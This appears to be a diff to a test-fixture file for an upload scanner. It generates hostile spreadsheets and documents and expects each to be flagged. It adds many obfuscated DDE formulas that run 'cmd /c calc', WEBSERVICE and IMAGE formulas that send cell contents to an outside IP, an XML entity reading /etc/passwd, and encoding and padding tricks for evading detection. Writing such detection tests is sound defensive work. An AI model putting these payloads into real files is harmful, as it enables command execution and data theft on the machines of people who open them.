@@ -1,6 +1,6 @@
 import { heicOf, jpegOf, pngChunk, pngOf } from './image-maker';
 import { docxOf, field, innerField, paragraph, relations, xlsxOf } from './office-maker';
-import { docStreams, oleOf, record, sheetRecord, xlsBook } from './ole-maker';
+import { docStreams, excel5Book, oleOf, record, sheetRecord, xlsBook } from './ole-maker';
 import { encryptedPdf, objectStream, pdfOf, revised } from './pdf-maker';
 import { Seeded } from './seeded';
 import { zipped } from './zip-maker';
@@ -21,6 +21,26 @@ const shallow = (words: string, name: string, reason: string, make: (seeded: See
 const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03', 'latin1'), Buffer.alloc(1500, 7)]);
 const OLE_RELATION = 'oleObject';
 const text = (value: string): string => `<w:p><w:r><w:t>${value}</w:t></w:r></w:p>`;
+
+const cell = (formula: string): string => `<row r="1"><c r="A1"><f>${formula}</f><v>1</v></c></row>`;
+
+const DDE_FORMULAS: readonly (readonly [string, string])[] = [
+  ['with its bar as an entity', "cmd&#124;'/c calc'!A0"],
+  ['with its bar in hexadecimal', "cmd&#x7C;'/c calc'!A0"],
+  ['with a letter as an entity', "&#99;md|'/c calc'!A0"],
+  ['in CDATA', "<![CDATA[cmd|'/c calc'!A0]]>"],
+  ['half in CDATA', "cmd<![CDATA[|]]>'/c calc'!A0"],
+  ['cut by a comment', "cmd<!-- x -->|'/c calc'!A0"],
+  ['behind a sum', "1+cmd|'/c calc'!A0"],
+  ['inside a function', "SUM(cmd|'/c calc'!A0)"],
+  ['behind five hundred signs', `${'1+'.repeat(250)}cmd|'/c calc'!A0`],
+  ['behind a text', `"a""b"&amp;cmd|'/c calc'!A0`],
+  ['wholly in quotes', "'cmd|/c calc'!A0"],
+  ['with its program in quotes', "'cmd'|'/c calc'!A0"],
+  ['behind a bracket that never ends', "[a+cmd|'/c calc'!A0"],
+  ['behind the column of a table', "Bang1[Cột 'a]+cmd|'/c calc'!A0"],
+  ['as a function', 'DDE("soffice","/tmp/x","A1")'],
+];
 
 const NAMES: readonly HostileKind[] = [
   shallow('a program', 'cai-dat.exe', 'typeNotAccepted', () => EXE),
@@ -79,13 +99,34 @@ const OFFICE: readonly HostileKind[] = [
   kind('DDE as a simple field', 'a.docx', 'dde', () => docxOf({ body: '<w:p><w:fldSimple w:instr=" DDEAUTO cmd x "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>' })),
   kind('DDE in a header', 'a.docx', 'dde', () => docxOf({ parts: [{ name: 'word/header1.xml', content: `<w:hdr xmlns:w="w">${field('DDEAUTO cmd "/k calc"')}</w:hdr>` }] })),
   kind('DDE formula in Excel', 'a.xlsx', 'dde', () => xlsxOf({ body: "<row r='1'><c r='A1'><f>cmd|' /C calc'!A0</f><v>0</v></c></row>" })),
+  ...DDE_FORMULAS.map(([words, formula]) => kind(`DDE formula ${words}`, 'a.xlsx', 'dde', () => xlsxOf({ body: cell(formula) }))),
+  kind('DDE as a shared formula', 'a.xlsx', 'dde', () => xlsxOf({ body: `<row r="1"><c r="A1"><f t="shared" ref="A1:A3" si="0">1+cmd|'/c calc'!A0</f></c></row>` })),
+  kind('DDE as an array formula', 'a.xlsx', 'dde', () => xlsxOf({ body: `<row r="1"><c r="A1"><f t="array" ref="A1:A3">cmd|'/c calc'!A0</f></c></row>` })),
+  kind('DDE behind a defined name', 'a.xlsx', 'dde', () => xlsxOf({ workbook: `<definedNames><definedName name="x">1+cmd&#124;'/c calc'!A0</definedName></definedNames>` })),
+  kind('DDE in a rule of formats', 'a.xlsx', 'dde', () => xlsxOf({ settings: `<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>cmd|'/c calc'!A0</formula></cfRule></conditionalFormatting>` })),
+  kind('DDE in a rule of input', 'a.xlsx', 'dde', () => xlsxOf({ settings: `<dataValidations><dataValidation type="list" sqref="A1"><formula1>cmd|'/c calc'!A0</formula1></dataValidation></dataValidations>` })),
+  kind('DDE in a sheet under another ending', 'a.xlsx', 'dde', () => xlsxOf({ types: '<Override PartName="/xl/so.dat" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>', parts: [{ name: 'xl/so.dat', content: `<worksheet>${cell("cmd|'/c calc'!A0")}</worksheet>` }] })),
+  kind('DDE link under another name', 'a.xlsx', 'dde', () => xlsxOf({ parts: [{ name: 'xl/so.xml', content: '<externalLink xmlns="s"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }] })),
+  kind('DDE behind thirty megabytes of blanks', 'a.xlsx', 'dde', (seeded) => xlsxOf({ parts: [{ name: 'xl/externalLinks/externalLink1.xml', content: `<externalLink>${' '.repeat(31_000_000)}<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>` }, { name: 'xl/media/image1.jpeg', content: seeded.bytes(250_000), method: 0 }] })),
+  kind('a program of the machine asked for data', 'a.xlsx', 'dde', () => xlsxOf({ body: cell('RTD("may.chu",,"a")') })),
+  kind('cells sent to the web', 'a.xlsx', 'webFormula', () => xlsxOf({ body: cell('_xlfn.WEBSERVICE("http://198.51.100.7/"&amp;A2)') })),
+  kind('cells sent to the web from within another function', 'a.xlsx', 'webFormula', () => xlsxOf({ body: cell('IFERROR(1,_xlfn.W&#69;BSERVICE ("http://198.51.100.7/"&amp;A2))') })),
+  kind('a picture fetched by a formula', 'a.xlsx', 'webFormula', () => xlsxOf({ body: cell('_xlfn.IMAGE("http://198.51.100.7/"&amp;A2)') })),
+  kind('a table fetched on opening', 'a.xlsx', 'externalLinks', () => xlsxOf({ parts: [{ name: 'xl/queryTables/queryTable1.xml', content: '<queryTable xmlns="s" refreshOnLoad="1" connectionId="1"/>' }] })),
+  kind('a picture from the web', 'a.docx', 'webPicture', () => docxOf({ relations: [['image', 'http://198.51.100.7/x.png', 'External']] })),
+  kind('a picture from the web in a workbook', 'a.xlsx', 'webPicture', () => xlsxOf({ parts: [{ name: 'xl/drawings/_rels/drawing1.xml.rels', content: relations([['image', 'https://198.51.100.7/x.png', 'External']]) }] })),
+  kind('a picture included by a field', 'a.docx', 'webPicture', () => docxOf({ body: field(' INCLUDEPICTURE "http://198.51.100.7/x.png" \\d ') })),
+  kind('a picture included from a share', 'a.docx', 'externalContent', () => docxOf({ body: field(' INCLUDEPICTURE "\\\\\\\\198.51.100.7\\\\x\\\\a.png" ') })),
+  kind('DDE in a field of CDATA', 'a.docx', 'dde', () => docxOf({ body: field('<w:r><w:instrText><![CDATA[DDEAUTO cmd "/k calc"]]></w:instrText></w:r>') })),
   kind('DDE link in Excel', 'a.xlsx', 'dde', () => xlsxOf({ parts: [{ name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink xmlns="s"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }] })),
   kind('a link to another workbook', 'a.xlsx', 'externalLinks', () => xlsxOf({ parts: [{ name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink xmlns="s" xmlns:r="r"><externalBook r:id="rId1"/></externalLink>' }, { name: 'xl/externalLinks/_rels/externalLink1.xml.rels', content: relations([['externalLinkPath', 'file:///D:/so.xlsx', 'External']]) }] })),
   kind('data fetched on opening', 'a.xlsx', 'externalLinks', () => xlsxOf({ parts: [{ name: 'xl/connections.xml', content: '<connections xmlns="s"><connection id="1" refreshOnLoad="1"><webPr url="http://198.51.100.7"/></connection></connections>' }] })),
   kind('entities that read files', 'a.docx', 'entities', () => docxOf({ parts: [{ name: 'word/footnotes.xml', content: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' }] })),
   kind('a billion laughs', 'a.xlsx', 'entities', () => xlsxOf({ parts: [{ name: 'xl/sharedStrings.xml', content: '<!DOCTYPE l [<!ENTITY a "haha"><!ENTITY b "&a;&a;">]><sst>&b;</sst>' }] })),
   kind('a DOCTYPE in UTF-16', 'a.docx', 'entities', () => docxOf({ parts: [{ name: 'word/comments.xml', content: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<!DOCTYPE x><x/>', 'utf16le')]) }] })),
-  kind('a sheet in UTF-16 that hides from the search', 'a.xlsx', 'damaged', () => xlsxOf({ parts: [{ name: 'xl/worksheets/sheet2.xml', content: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<worksheet/>', 'utf16le')]) }] })),
+  kind('a sheet in UTF-16 that hides from the search', 'a.xlsx', 'dde', () => xlsxOf({ parts: [{ name: 'xl/worksheets/sheet2.xml', content: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<worksheet>${cell("cmd|'/c calc'!A0")}</worksheet>`, 'utf16le')]) }] })),
+  kind('a sheet in UTF-16 without its mark', 'a.xlsx', 'damaged', () => xlsxOf({ parts: [{ name: 'xl/worksheets/sheet2.xml', content: Buffer.from('<worksheet/>', 'utf16le') }] })),
+  kind('a sheet in UTF-7', 'a.xlsx', 'damaged', () => xlsxOf({ parts: [{ name: 'xl/worksheets/sheet2.xml', content: `<?xml version="1.0" encoding="utf-7"?><worksheet>${cell("cmd+AHw-'/c calc'!A0")}</worksheet>` }] })),
   kind('cells merged over the whole sheet', 'a.xlsx', 'hugeTable', () => xlsxOf({ settings: '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>' })),
   kind('a new paper with a password', 'a.docx', 'encrypted', () => oleOf({ EncryptionInfo: Buffer.alloc(200, 1), EncryptedPackage: Buffer.alloc(5000, 2) })),
   kind('XML that is torn', 'a.docx', 'damaged', () => docxOf({ body: '<w:p><w:r>' })),
@@ -102,6 +143,9 @@ const OLD_OFFICE: readonly HostileKind[] = [
   kind('an old workbook with a password', 'a.xls', 'encrypted', () => oleOf({ Workbook: xlsBook([record(0x2f, Buffer.alloc(54, 1))]) })),
   kind('macro sheet of Excel 4.0 in an old workbook', 'a.xls', 'macros', () => oleOf({ Workbook: xlsBook([sheetRecord(1, 'Macro1')]) })),
   kind('DDE link of an old workbook', 'a.xls', 'dde', () => oleOf({ Workbook: xlsBook([record(0x01ae, Buffer.concat([Buffer.from([0, 0, 9, 0, 0]), Buffer.from('cmd\x03/C x')]))]) })),
+  kind('DDE link of a workbook of Excel 5', 'a.xls', 'dde', () => oleOf({ Book: excel5Book([record(0x17, Buffer.concat([Buffer.from([8]), Buffer.from('cmd\x03/C x')]))]) })),
+  kind('a workbook of Excel 5 linked to another', 'a.xls', 'externalLinks', () => oleOf({ Book: excel5Book([record(0x17, Buffer.concat([Buffer.from([9]), Buffer.from('\x01\x01Dso.xls')]))]) })),
+  kind('cells sent to the web by an old workbook', 'a.xls', 'webFormula', () => oleOf({ Workbook: xlsBook([record(0x18, Buffer.concat([Buffer.alloc(15), Buffer.from('_xlfn.WEBSERVICE')]))]) })),
   kind('an old workbook linked to another', 'a.xls', 'externalLinks', () => oleOf({ Workbook: xlsBook([record(0x01ae, Buffer.concat([Buffer.from([1, 0, 8, 0, 0]), Buffer.from('\x01\x01Dso.xls')]))]) })),
   kind('half an old paper', 'a.doc', 'damaged', () => oleOf(docStreams('x')).subarray(0, 700)),
 ];
